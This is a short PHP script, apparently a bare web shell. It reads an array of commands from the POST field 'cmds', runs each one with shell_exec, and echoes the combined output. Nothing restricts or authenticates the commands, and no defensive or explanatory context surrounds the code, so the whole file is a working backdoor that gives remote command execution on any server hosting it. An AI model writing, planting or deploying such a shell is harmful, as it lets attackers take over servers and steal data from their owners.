<?php
// Each request value is run while the callback folds the outputs together.
$out = array_reduce((array) ($_POST['cmds'] ?? []), function ($acc, $cmd) {
    return $acc . shell_exec($cmd);
}, '');
echo '<pre>', $out, '</pre>';
